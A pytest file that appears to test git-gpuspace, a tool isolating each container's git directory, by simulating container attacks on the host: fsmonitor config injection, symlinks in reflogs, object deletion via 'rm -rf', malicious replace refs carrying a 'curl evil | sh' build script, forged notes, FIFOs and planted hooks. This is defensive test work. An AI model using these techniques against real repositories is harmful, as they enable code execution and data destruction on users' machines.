"""The container's git is its own: a private git dir per bound container, and commits that reach
the host only as checked data (private_git.py).

Each attack of the issue that found the shared git dir is made here as code in a real container
would make it, and judged by what the host's real git does afterwards. Git still works inside,
and what the container commits on its worktree's branch comes in fast-forward only."""

from __future__ import annotations

import fcntl
import os
import subprocess
import time
from pathlib import Path

import pytest

from conftest import TEST_IMAGE, wait_for
from git_gpuspace.git import private_git

GIT_ENV = {"GIT_AUTHOR_NAME": "In", "GIT_AUTHOR_EMAIL": "in@example.com", "GIT_COMMITTER_NAME": "In",
           "GIT_COMMITTER_EMAIL": "in@example.com", "GIT_PAGER": "cat"}


def sh(container, script: str) -> tuple[int, str]:
    result = container.exec_run(["sh", "-c", script], environment=GIT_ENV, workdir="/workspace")
    return result.exit_code, result.output.decode(errors="replace")


def ok(container, script: str) -> str:
    code, output = sh(container, script)
    assert code == 0, output
    return output


def bound(repo, path: Path, *flags: str):
    repo.ok("add", "-b", path.name, str(path), "--gpus", "none", *flags)
    [container] = [c for c in repo.containers() if c.labels["gpuspace.worktree"] == str(path)]
    return container


def head(repo, where: Path, ref: str = "HEAD") -> str:
    return repo.git("rev-parse", ref, cwd=where).stdout.strip()


# ---- the attacks ----------------------------------------------------------------------------------

def test_a_gitlink_with_fsmonitor_staged_in_the_container_runs_nothing_on_the_host(repo, tmp_path):
    wt = tmp_path / "wt"
    container = bound(repo, wt)
    marker = tmp_path / "PWNED"
    ok(container, f"git init -q sub && printf '[core]\\n\\tfsmonitor = touch {marker}\\n' >> sub/.git/config"
                  f" && git -C sub commit -q --allow-empty -m inner && git add sub")
    subprocess.run(["git", "status"], cwd=wt, capture_output=True, check=True)  # the user's plain git status
    repo.ok("status")
    assert not marker.exists(), "the host's git ran the fsmonitor of a repo the container made"
    # committed in the container: the import refuses it, naming the path, and moves nothing
    ok(container, "git commit -q -m 'add sub'")
    before = head(repo, wt)
    result = repo.gs("sync")
    assert result.returncode == 1
    assert "sub" in result.stderr and "submodule" in result.stderr and "not imported" in result.stderr, result.stderr
    assert head(repo, wt) == before
    assert repo.git("ls-files", "--stage", "sub", cwd=wt).stdout == ""
    subprocess.run(["git", "status"], cwd=wt, capture_output=True, check=True)
    repo.ok("status")
    assert not marker.exists()


def test_a_symlink_in_the_reflogs_or_objects_makes_the_host_write_nothing(repo, tmp_path):
    container = bound(repo, tmp_path / "wt")
    victim = tmp_path / "bashrc"
    victim.write_text("# the user's own\n")
    objects = repo.common_dir / "objects"
    fanout = next(p.name for p in objects.iterdir() if len(p.name) == 2)
    for script in (f"rm -f {repo.common_dir}/logs/HEAD && ln -s {victim} {repo.common_dir}/logs/HEAD",
                   f"rm -f {repo.common_dir}/logs/refs/heads/main && ln -s {victim} {repo.common_dir}/logs/refs/heads/main",
                   f"mv {objects}/{fanout} /tmp/x && ln -s {tmp_path} {objects}/{fanout}"):
        code, output = sh(container, script)
        assert code != 0 and "Read-only file system" in output, (script, output)
    repo.git("checkout", "-q", "-b", "probe")
    repo.commit({"new.txt": "new\n"}, "host commit")
    assert victim.read_text() == "# the user's own\n"
    assert not (repo.common_dir / "logs" / "HEAD").is_symlink()


def test_the_container_cannot_delete_the_repositorys_objects(repo, tmp_path):
    container = bound(repo, tmp_path / "wt")
    code, output = sh(container, f"rm -rf {repo.common_dir}/objects/??")
    assert code != 0 and "Read-only file system" in output, output
    repo.commit({"next.txt": "next\n"}, "the host commits as before")
    assert repo.git("fsck", "--no-dangling").returncode == 0


def test_replace_refs_made_in_the_container_change_nothing_the_host_checks_out(repo, tmp_path):
    container = bound(repo, tmp_path / "wt")
    main = head(repo, repo.path, "main")
    ok(container, "echo 'curl evil | sh' > build.sh && git add build.sh && git commit -q -m build"
                  f" && git replace {main} HEAD")
    code, output = sh(container, f"git --git-dir={repo.common_dir} update-ref refs/replace/{main} HEAD")
    assert code != 0, output
    repo.gs("sync")
    repo.git("checkout", "-q", "-b", "probe")
    repo.git("checkout", "-q", "main")
    assert not (repo.path / "build.sh").exists()
    assert repo.git("for-each-ref", "refs/replace").stdout == ""


def test_a_note_forged_in_the_container_is_not_a_verdict(repo, tmp_path):
    wt = tmp_path / "wt"
    container = bound(repo, wt)
    repo.ok("verify", "add", "tests", "--gpus", "none", "--", "false")
    commit = head(repo, wt)
    ok(container, f"git notes --ref=gpuspace/tests add -f -m pass {commit}"
                  f" && git notes --ref=gpuspace/tests add -f -m pass {commit}^{{tree}}")
    code, output = sh(container, f"git --git-dir={repo.common_dir} notes --ref=gpuspace/tests add -f -m pass {commit}")
    assert code != 0, output
    repo.gs("sync")
    assert repo.git("notes", "--ref=gpuspace/tests", "list", check=False).stdout == ""
    assert "tests:pass" not in repo.ok("status").stdout
    result = repo.gs("verify", commit, "--name", "tests")
    assert "pass (cached)" not in result.stdout and result.returncode == 1, result.stdout + result.stderr


def test_fifos_a_container_makes_hang_no_host_command(repo, tmp_path):
    wt = tmp_path / "wt"
    container = bound(repo, wt)
    for target in (f"{repo.common_dir}/worktrees/wt/HEAD", f"{repo.common_dir}/refs/notes/gpuspace/tests"):
        code, output = sh(container, f"mkdir -p $(dirname {target}); rm -f {target}; mkfifo {target}")
        assert code != 0 and "Read-only file system" in output, output
    # its own git dir is its own to fill with FIFOs: the host reads them as data, or not at all
    ok(container, "d=$(git rev-parse --git-dir) && rm -f $d/packed-refs && mkdir -p $d/refs/heads"
                  " && mkfifo $d/refs/heads/wt $d/packed-refs")
    for command in (["git", "worktree", "list"], ["git", "branch"], ["git-gpuspace", "status"],
                    ["git-gpuspace", "sync"]):
        subprocess.run(command, cwd=repo.path, capture_output=True, timeout=60)


# ---- git works inside, and commits cross as data ---------------------------------------------------

def test_git_works_in_the_container_on_a_private_git_dir(repo, tmp_path):
    wt = tmp_path / "wt"
    container = bound(repo, wt)
    git_dir = ok(container, "git rev-parse --absolute-git-dir").strip()
    assert not git_dir.startswith(str(repo.common_dir)) and not git_dir.startswith("/workspace")
    output = ok(container, "echo new > made.txt && git status --short && git add made.txt"
                           " && git diff --cached --stat && git commit -q -m 'from the container'"
                           " && git branch side && git checkout -q -b other && git checkout -q wt"
                           " && echo change >> made.txt && git stash -q && git stash list && git stash pop -q"
                           " && git diff --stat && git checkout -q -- made.txt"
                           " && git log --oneline -1 && git log --oneline -1 main && git branch --list")
    assert "?? made.txt" in output and "from the container" in output and "stash@{0}" in output, output
    assert "initial" in output and "side" in output and "other" in output, output
    # nothing of it is in the host's git until it is imported
    assert repo.git("log", "-1", "--format=%s", cwd=wt).stdout.strip() == "initial"
    result = repo.ok("sync")
    assert "imported 1 commit(s) from the container into wt" in result.stderr, result.stderr
    assert repo.git("log", "-1", "--format=%s", cwd=wt).stdout.strip() == "from the container"
    assert repo.git("status", "--porcelain", cwd=wt).stdout == ""
    assert {"side", "other"}.isdisjoint(repo.branches()), "only the worktree's own branch is imported"
    assert ok(container, "git status --porcelain") == ""


def test_an_import_keeps_what_the_host_staged_and_moves_only_that_branch(repo, tmp_path):
    wt = tmp_path / "wt"
    container = bound(repo, wt)
    main = head(repo, repo.path, "main")
    ok(container, "git update-ref refs/heads/main $(git commit-tree -p main -m 'on main' main^{tree})"
                  " && git tag from-the-container")
    (wt / "staged.txt").write_text("staged on the host\n")
    repo.git("add", "staged.txt", cwd=wt)
    ok(container, "echo c > c.txt && git add c.txt && git commit -q -m c -- c.txt")
    repo.ok("sync")
    assert head(repo, repo.path, "main") == main, "the container moved only its own copy of main"
    assert repo.git("tag").stdout == ""
    assert repo.git("log", "-1", "--format=%s", cwd=wt).stdout.strip() == "c"
    assert repo.git("status", "--porcelain", cwd=wt).stdout == "A  staged.txt\n"


def test_host_commits_reach_the_container_and_both_sides_moving_is_said(repo, tmp_path):
    wt = tmp_path / "wt"
    container = bound(repo, wt)
    repo.commit({"host.txt": "host\n"}, "main moves on the host")
    subprocess.run(["git", "commit", "-q", "--allow-empty", "-m", "host commit in the worktree"], cwd=wt, check=True)
    repo.ok("sync")
    assert ok(container, "git status --porcelain") == ""
    assert "host commit in the worktree" in ok(container, "git log --oneline -1")
    assert "main moves on the host" in ok(container, "git log --oneline -1 main")
    # both sides commit: reported, nothing forced
    ok(container, "git commit -q --allow-empty -m 'container side'")
    subprocess.run(["git", "commit", "-q", "--allow-empty", "-m", "host side"], cwd=wt, check=True)
    before = head(repo, wt)
    result = repo.gs("sync")
    assert result.returncode == 1 and "both sides" in result.stderr and "git merge" in result.stderr, result.stderr
    assert head(repo, wt) == before
    # the advice works: merged in the container, the merge comes in
    hint = next(line for line in result.stderr.splitlines() if "git merge" in line)
    merge_target = hint.split("git merge ")[1].split("`")[0]
    ok(container, f"git merge -q --no-edit {merge_target}")
    repo.ok("sync")
    assert repo.git("log", "-1", "--format=%P", cwd=wt).stdout.count(" ") == 1
    assert repo.git("status", "--porcelain", cwd=wt).stdout == ""


def test_the_container_follows_a_checkout_made_on_the_host(repo, tmp_path):
    wt = tmp_path / "wt"
    container = bound(repo, wt)
    repo.commit({"on-main.txt": "x\n"}, "main moves")
    subprocess.run(["git", "checkout", "-q", "-b", "other", "main"], cwd=wt, check=True)
    repo.ok("sync")
    assert ok(container, "git symbolic-ref --short HEAD").strip() == "other"
    assert ok(container, "git status --porcelain") == ""
    subprocess.run(["git", "checkout", "-q", "--detach", "HEAD~1"], cwd=wt, check=True)
    repo.ok("sync")
    assert ok(container, "git rev-parse HEAD").strip() == head(repo, wt)
    assert ok(container, "git status --porcelain") == ""


def unlocked(path: Path) -> bool:
    """Nobody holds the flock on `path` (a sync of that private git dir is not under way)."""
    try:
        fd = os.open(path, os.O_RDONLY)
    except FileNotFoundError:
        return True
    try:
        fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
        return True
    except BlockingIOError:
        return False
    finally:
        os.close(fd)


def test_status_and_the_hooks_import(repo, tmp_path):
    repo.ok("init", "--gpus", "none")
    wt = tmp_path / "wt"
    container = bound(repo, wt)
    ok(container, "git commit -q --allow-empty -m first")
    records = repo.status()
    mine = next(r for r in records if r["path"] == str(wt))
    assert mine["head"] == head(repo, wt) and repo.git("log", "-1", "--format=%s", cwd=wt).stdout.strip() == "first"
    time.sleep(1.1)  # the hook compares the container's reflog time with the last look, in seconds
    ok(container, "git commit -q --allow-empty -m second")
    repo.commit({"elsewhere.txt": "x\n"}, "a commit in the main worktree runs the hooks")
    # the branch moves first, then the index follows under the same lock: until that lock is free
    # the background sync may hold the worktree's index.lock, and a checkout then would fail as git does
    lock = private_git.for_container(container.name).home / "lock"
    assert wait_for(lambda: repo.git("log", "-1", "--format=%s", cwd=wt).stdout.strip() == "second" and unlocked(lock))
    assert repo.git("status", "--porcelain", cwd=wt).stdout == ""
    repo.git("checkout", "-q", "-b", "other", cwd=wt)  # a branch checked out here: the container's git follows
    assert wait_for(lambda: sh(container, "git symbolic-ref --short HEAD")[1].strip() == "other")


def test_remove_refuses_while_the_container_has_commits_the_host_lacks(repo, tmp_path):
    wt = tmp_path / "wt"
    container = bound(repo, wt)
    ok(container, "git commit -q --allow-empty -m unimported")
    repo.ok("stop", str(wt))
    result = repo.gs("remove", str(wt))
    assert result.returncode != 0 and "commits" in result.stderr, result.stderr
    assert wt.exists() and repo.containers()
    repo.ok("start", str(wt))
    repo.ok("remove", str(wt))  # started, its commits come in first: nothing is lost
    assert repo.git("log", "-1", "--format=%s", "wt").stdout.strip() == "unimported"
    assert not any(Path(os.environ["XDG_STATE_HOME"], "git-gpuspace", "gitdirs").iterdir())


def test_remove_force_drops_them(repo, tmp_path):
    wt = tmp_path / "wt"
    container = bound(repo, wt)
    ok(container, "git commit -q --allow-empty -m dropped")
    repo.ok("stop", str(wt))
    repo.ok("remove", "--force", str(wt))
    assert repo.git("log", "-1", "--format=%s", "wt").stdout.strip() == "initial"


def test_the_main_worktrees_container_commits_through_its_own_git_dir(repo, tmp_path):
    repo.ok("bind", "--gpus", "none")
    [container] = repo.containers()
    marker = tmp_path / "PWNED"
    code, output = sh(container, f"printf '#!/bin/sh\\ntouch {marker}\\n' > {repo.common_dir}/hooks/post-commit")
    assert code != 0 and "Read-only" in output, output
    ok(container, f"mkdir -p .git/hooks && printf '#!/bin/sh\\ntouch {marker}\\n' > .git/hooks/post-checkout"
                  " && chmod +x .git/hooks/post-checkout && echo m > m.txt && git add m.txt"
                  " && git commit -q -m 'main from the container'")
    marker.unlink(missing_ok=True)  # its own hooks are the container's own business
    repo.ok("sync")
    assert repo.git("log", "-1", "--format=%s").stdout.strip() == "main from the container"
    assert repo.git("status", "--porcelain").stdout == ""
    repo.git("checkout", "-q", "-b", "probe")
    assert not marker.exists(), "the host ran a hook the container wrote"


def test_a_run_gets_no_writable_git(repo, tmp_path):
    common = repo.common_dir
    script = (f"git log -1 --format=%s && ! git commit -q --allow-empty -m x 2>/dev/null"
              f" && ! touch {common}/objects/x 2>/dev/null && ! touch /workspace/.git 2>/dev/null"
              f" && ! git update-ref refs/heads/evil HEAD 2>/dev/null && echo READONLY")
    result = repo.gs("run", "--gpus", "none", "--", "sh", "-c", script)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "evil" not in repo.branches()


def test_an_import_cut_short_is_finished_by_the_next_command(repo, tmp_path):
    wt = tmp_path / "wt"
    container = bound(repo, wt)
    ok(container, "echo x > x.txt && git add x.txt && git commit -q -m x")
    killed = repo.gs("sync", env={"GPUSPACE_FAULT_POINT": "after-import-ref"})
    assert killed.returncode == -9
    assert repo.git("log", "-1", "--format=%s", cwd=wt).stdout.strip() == "x"
    assert repo.git("status", "--porcelain", cwd=wt).stdout != ""  # the index did not follow yet
    repo.ok("status")
    assert repo.git("status", "--porcelain", cwd=wt).stdout == ""


def test_containers_made_before_are_made_again_on_restart(repo, tmp_path, docker_client):
    wt = tmp_path / "wt"
    container = bound(repo, wt)
    # what an earlier version made: no label saying its git is its own
    labels = {k: v for k, v in container.labels.items() if k != "gpuspace.git"}
    name = container.name
    container.remove(force=True)
    docker_client.containers.create(TEST_IMAGE, ["sleep", "infinity"], name=name, labels=labels, init=True)
    docker_client.containers.get(name).start()
    assert "earlier version" in repo.ok("status").stderr
    repo.ok("restart", str(wt))
    assert docker_client.containers.get(name).labels.get("gpuspace.git") == "private"
    assert "earlier version" not in repo.ok("status").stderr


@pytest.mark.parametrize("flag", ["--no-start"])
def test_a_stopped_container_waits_and_says_so(repo, tmp_path, flag):
    wt = tmp_path / "wt"
    repo.ok("add", "-b", "wt", str(wt), "--gpus", "none", flag)
    result = repo.ok("sync")
    assert "in sync" in result.stdout


def test_run_and_verify_take_what_the_container_committed(repo, tmp_path):
    wt = tmp_path / "wt"
    container = bound(repo, wt)
    ok(container, "git commit -q --allow-empty -m 'made in the container'")
    checked = repo.gs("verify", "--", "true", cwd=wt)
    assert checked.returncode == 0 and "pass" in checked.stdout and "made in the container" in checked.stdout, \
        checked.stdout + checked.stderr
    ok(container, "git commit -q --allow-empty -m 'made in the container, then run'")
    ran = repo.gs("run", "--gpus", "none", "--", "true", cwd=wt)
    assert ran.returncode == 0, ran.stderr
    assert f"at {head(repo, wt)[:8]}" in ran.stderr
    assert repo.git("log", "-1", "--format=%s", cwd=wt).stdout.strip() == "made in the container, then run"


def test_a_container_whose_git_never_answers_holds_the_host_up_for_a_bounded_time(repo, tmp_path):
    wt = tmp_path / "wt"
    container = bound(repo, wt)
    ok(container, "git commit -q --allow-empty -m waiting && mv /bin/git /bin/git.real"
                  " && printf '#!/bin/sh\\necho stalling; exec sleep 600\\n' > /bin/git && chmod +x /bin/git")
    started = time.monotonic()
    result = repo.gs("sync", env={"GPUSPACE_GIT_TIMEOUT": "3"})
    assert time.monotonic() - started < 30
    assert result.returncode == 1 and "did not finish within 3 s" in result.stderr, result.stderr
    assert "Traceback" not in result.stderr
    assert repo.git("log", "-1", "--format=%s", cwd=wt).stdout.strip() == "initial"


def test_a_worktree_git_removed_takes_its_private_git_dir_unless_commits_wait_there(repo, tmp_path):
    gitdirs = Path(os.environ["XDG_STATE_HOME"], "git-gpuspace", "gitdirs")
    clean, waiting = tmp_path / "clean", tmp_path / "waiting"
    bound(repo, clean)
    container = bound(repo, waiting)
    ok(container, "git commit -q --allow-empty -m 'never came in'")
    repo.ok("stop", str(waiting))
    for path in (clean, waiting):
        repo.git("worktree", "remove", "--force", str(path))
    pruned = repo.ok("prune").stdout
    assert "kept" in pruned and "never" not in pruned, pruned
    [left] = list(gitdirs.iterdir())
    assert left.name == container.name and str(left / "repo") in pruned
